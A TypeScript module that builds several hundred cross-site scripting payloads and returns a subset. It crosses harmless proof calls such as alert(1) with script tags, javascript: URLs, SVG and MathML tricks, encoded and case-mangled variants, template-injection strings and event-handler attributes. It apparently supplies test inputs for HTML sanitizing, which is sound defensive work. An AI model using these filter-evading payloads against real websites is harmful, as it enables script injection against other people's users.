const calls = ["alert(1)", "confirm`1`", "prompt(1)", "window['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)"];
const events =
  "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerrawupdate onwheel".split(" ");
const wrappers: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script\x0c>${call}</script\x0c>`,
  (call) => `<a href="javascript:${call}">press</a>`,
  (call) => `<a href="java&#10;script:${call}">press</a>`,
  (call) => `<a href="&#106;avascript:${call}">press</a>`,
  (call) => `<a href="\x01javascript:${call}">press</a>`,
  (call) => `<a href="JaVaScRiPt&colon;${call}">press</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">press</a>`,
  (call) => `<a href="vbscript:${call}">press</a>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><input type=submit autofocus></form>`,
  (call) => `<button formaction="javascript:${call}">press</button>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><animate attributeName=href values="javascript:${call}" /></svg>`,
  (call) => `<svg><set attributeName=onmouseover to="${call}"></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"></svg>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  (call) => `<math href="javascript:${call}">press</math>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) => `<template><img src=x onerror="${call}"></template>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<style>@import 'javascript:${call}';*{background:url(javascript:${call})}</style>`,
  (call) => `<p style="width:expression(${call});background:url('javascript:${call}')">x</p>`,
  (call) => `<isindex type=image src=x onerror="${call}">`,
  (call) => `<img src="x\`onerror=${call}">`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror\x0b="${call}">`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}"></audio>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}"></select>`,
  (call) => `<body onload="${call}">`,
  (call) => `<x contenteditable onblur="${call}" tabindex=1 autofocus>x</x>`,
  (call) => `<figure><img src=x onerror="${call}"></figure>`,
  (call) => `<p id="x" onclick="${call}">x</p>`,
];

/**
 * Texts that would run a script where they are taken for HTML, an address or a template; at least `most` of the five
 * hundred.
 */
export function injections(most = Number.POSITIVE_INFINITY): string[] {
  const all = [
    ...calls.flatMap((call) => wrappers.map((wrap) => wrap(call))),
    ...calls.flatMap((call) => events.map((event) => `<img src=x ${event}="${call}">`)),
    ...calls.flatMap((call) => events.map((event) => `" ${event}="${call}" x="`)),
    ...calls.flatMap((call) => events.map((event) => `<svg ${event}=${call}>`)),
    ...calls.flatMap((call) => events.slice(0, 5).map((event) => `<b/${event}='${call}'>x</b>`)),
  ];
  // Spread over the whole list, and the same ones in every run.
  const step = Math.max(1, Math.floor(all.length / most));
  return all.filter((_, place) => place % step === 0);
}
